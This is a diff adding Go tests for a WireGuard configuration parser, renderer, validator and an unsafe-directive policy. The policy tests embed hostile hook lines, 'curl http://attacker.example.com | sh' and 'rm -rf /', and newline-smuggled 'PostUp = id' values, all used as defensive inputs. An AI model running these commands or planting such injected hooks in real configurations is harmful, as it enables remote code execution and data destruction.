@@ -0,0 +1,267 @@
+package tunnel
+
+import (
+	"encoding/base64"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+)
+
+func testKey(b byte) string {
+	return base64.StdEncoding.EncodeToString([]byte(strings.Repeat(string(b), wgKeyLen)))
+}
+
+func TestParseConfig(t *testing.T) {
+	config := `
+[Interface]
+# client side
+PrivateKey = cHJpdmF0ZQ==
+Address = 10.0.0.2/32, fd00::2/128
+ListenPort = 51820
+DNS = 1.1.1.1
+
+[Peer]
+PublicKey = cHVibGlj
+PresharedKey = cHNr
+Endpoint = 203.0.113.1:51820
+AllowedIPs = 10.0.0.1/32 ; server address
+PersistentKeepalive = 25
+`
+
+	parsed, err := ParseConfig(config)
+	assert.NoError(t, err)
+	assert.Equal(t, &Config{
+		Interface: InterfaceConfig{
+			PrivateKey: "cHJpdmF0ZQ==",
+			Addresses:  []string{"10.0.0.2/32", "fd00::2/128"},
+			ListenPort: 51820,
+			DNS:        []string{"1.1.1.1"},
+		},
+		Peers: []PeerConfig{
+			{
+				PublicKey:           "cHVibGlj",
+				PresharedKey:        "cHNr",
+				Endpoint:            "203.0.113.1:51820",
+				AllowedIPs:          []string{"10.0.0.1/32"},
+				PersistentKeepalive: 25,
+			},
+		},
+	}, parsed)
+}
+
+func TestParseConfigErrors(t *testing.T) {
+	tests := []struct {
+		name   string
+		config string
+	}{
+		{
+			name:   "missing private key",
+			config: "[Interface]\nAddress = 10.0.0.2/32\n",
+		},
+		{
+			name:   "peer without public key",
+			config: "[Interface]\nPrivateKey = a\n[Peer]\nAllowedIPs = 10.0.0.1/32\n",
+		},
+		{
+			name:   "unknown section",
+			config: "[Interface]\nPrivateKey = a\n[Server]\n",
+		},
+		{
+			name:   "key outside section",
+			config: "PrivateKey = a\n",
+		},
+		{
+			name:   "invalid listen port",
+			config: "[Interface]\nPrivateKey = a\nListenPort = high\n",
+		},
+		{
+			name:   "invalid MTU",
+			config: "[Interface]\nPrivateKey = a\nMTU = big\n",
+		},
+		{
+			name:   "unknown key",
+			config: "[Interface]\nPrivateKey = a\nExecStart = /bin/sh\n",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, err := ParseConfig(tt.config)
+			assert.Error(t, err)
+		})
+	}
+}
+
+func TestRenderConfig(t *testing.T) {
+	rendered := RenderConfig("cHJpdmF0ZQ==", &Peer{
+		PublicKey:           "cHVibGlj",
+		Endpoint:            "203.0.113.1:51820",
+		Addresses:           []string{"10.0.0.2/32"},
+		AllowedIPs:          []string{"10.0.0.1/32", "10.1.0.0/24"},
+		PersistentKeepalive: 25,
+	})
+
+	assert.Equal(t, `[Interface]
+PrivateKey = cHJpdmF0ZQ==
+Address = 10.0.0.2/32
+
+[Peer]
+PublicKey = cHVibGlj
+Endpoint = 203.0.113.1:51820
+AllowedIPs = 10.0.0.1/32, 10.1.0.0/24
+PersistentKeepalive = 25
+`, rendered)
+
+	// The rendered config parses back into the same settings
+	parsed, err := ParseConfig(rendered)
+	assert.NoError(t, err)
+	assert.Equal(t, []string{"10.0.0.2/32"}, parsed.Interface.Addresses)
+	assert.Equal(t, []string{"10.0.0.1/32", "10.1.0.0/24"}, parsed.Peers[0].AllowedIPs)
+
+	// Interface settings are only rendered when chosen
+	parsed, err = ParseConfig(RenderConfig(testKey('a'), &Peer{
+		PublicKey:  testKey('b'),
+		Addresses:  []string{"10.0.0.2/32"},
+		AllowedIPs: []string{"10.0.0.1/32"},
+		MTU:        1380,
+		ListenPort: 51821,
+	}))
+	assert.NoError(t, err)
+	assert.Equal(t, 1380, parsed.Interface.MTU)
+	assert.Equal(t, 51821, parsed.Interface.ListenPort)
+}
+
+func TestConfigRoundTrip(t *testing.T) {
+	config := &Config{
+		Interface: InterfaceConfig{
+			PrivateKey: testKey('a'),
+			Addresses:  []string{"10.0.0.2/32"},
+			ListenPort: 51820,
+			MTU:        1380,
+			DNS:        []string{"1.1.1.1", "example.com"},
+			Table:      "off",
+			FwMark:     "0x1",
+			SaveConfig: true,
+			PreUp:      []string{"echo pre-up"},
+			PostUp:     []string{"echo up"},
+			PreDown:    []string{"echo pre-down"},
+			PostDown:   []string{"echo down"},
+		},
+		Peers: []PeerConfig{
+			{
+				PublicKey:           testKey('b'),
+				PresharedKey:        testKey('c'),
+				Endpoint:            "vpn.example.com:51820",
+				AllowedIPs:          []string{"10.0.0.1/32", "fd00::/64"},
+				PersistentKeepalive: 25,
+			},
+		},
+	}
+
+	parsed, err := ParseConfig(config.String())
+	assert.NoError(t, err)
+	assert.Equal(t, config, parsed)
+}
+
+func TestValidateConfig(t *testing.T) {
+	valid := func() *Config {
+		return &Config{
+			Interface: InterfaceConfig{
+				PrivateKey: testKey('a'),
+				Addresses:  []string{"10.0.0.2/32", "fd00::2/128"},
+				MTU:        1420,
+			},
+			Peers: []PeerConfig{
+				{
+					PublicKey:  testKey('b'),
+					Endpoint:   "[2001:db8::1]:51820",
+					AllowedIPs: []string{"10.0.0.1/32"},
+				},
+			},
+		}
+	}
+	assert.NoError(t, valid().Validate())
+
+	tests := []struct {
+		name   string
+		modify func(c *Config)
+	}{
+		{"short private key", func(c *Config) { c.Interface.PrivateKey = "cHJpdmF0ZQ==" }},
+		{"address without prefix", func(c *Config) { c.Interface.Addresses = []string{"10.0.0.2"} }},
+		{"listen port", func(c *Config) { c.Interface.ListenPort = 70000 }},
+		{"MTU too small", func(c *Config) { c.Interface.MTU = 100 }},
+		{"MTU too large", func(c *Config) { c.Interface.MTU = 70000 }},
+		{"public key", func(c *Config) { c.Peers[0].PublicKey = "not base64!" }},
+		{"preshared key", func(c *Config) { c.Peers[0].PresharedKey = testKey('c')[:12] }},
+		{"endpoint without port", func(c *Config) { c.Peers[0].Endpoint = "vpn.example.com" }},
+		{"endpoint port", func(c *Config) { c.Peers[0].Endpoint = "vpn.example.com:0" }},
+		{"allowed IP", func(c *Config) { c.Peers[0].AllowedIPs = []string{"10.0.0.0/33"} }},
+		{"keepalive", func(c *Config) { c.Peers[0].PersistentKeepalive = -1 }},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			config := valid()
+			tt.modify(config)
+			assert.Error(t, config.Validate())
+		})
+	}
+}
+
+func TestApplyPolicy(t *testing.T) {
+	unsafe := `[Interface]
+PrivateKey = ` + testKey('a') + `
+Address = 10.0.0.2/32
+DNS = 1.1.1.1
+PostUp = curl http://attacker.example.com | sh
+PreDown = rm -rf /
+
+[Peer]
+PublicKey = ` + testKey('b') + `
+AllowedIPs = 10.0.0.1/32
+`
+
+	config, err := LoadConfig(unsafe, StripUnsafe)
+	assert.NoError(t, err)
+	assert.Empty(t, config.Interface.DNS)
+	assert.Empty(t, config.Interface.PostUp)
+	assert.Empty(t, config.Interface.PreDown)
+	assert.NotContains(t, config.String(), "PostUp")
+	assert.Equal(t, []string{"10.0.0.2/32"}, config.Interface.Addresses)
+
+	_, err = LoadConfig(unsafe, RejectUnsafe)
+	assert.ErrorIs(t, err, ErrUnsafeDirective)
+	assert.ErrorContains(t, err, "DNS, PostUp, PreDown")
+
+	// Safe configs pass either policy unchanged
+	safe := RenderConfig(testKey('a'), &Peer{PublicKey: testKey('b'), Addresses: []string{"10.0.0.2/32"}})
+	config, err = LoadConfig(safe, RejectUnsafe)
+	assert.NoError(t, err)
+	assert.Equal(t, safe, config.String())
+}
+
+func TestRenderConfigInjection(t *testing.T) {
+	// A server smuggling a hook into an interface field cannot get it past the policy
+	rendered := RenderConfig(testKey('a'), &Peer{
+		PublicKey:  testKey('b'),
+		Endpoint:   "203.0.113.1:51820",
+		Addresses:  []string{"10.0.0.2/32\nPostUp = id"},
+		AllowedIPs: []string{"10.0.0.1/32"},
+	})
+
+	_, err := LoadConfig(rendered, RejectUnsafe)
+	assert.ErrorIs(t, err, ErrUnsafeDirective)
+
+	config, err := LoadConfig(rendered, StripUnsafe)
+	assert.NoError(t, err)
+	assert.NotContains(t, config.String(), "PostUp")
+
+	// Hooks are not peer keys at all
+	rendered = RenderConfig(testKey('a'), &Peer{
+		PublicKey: testKey('b'),
+		Endpoint:  "203.0.113.1:51820\nPostUp = id",
+	})
+	_, err = LoadConfig(rendered, StripUnsafe)
+	assert.ErrorContains(t, err, "unknown peer key")
+}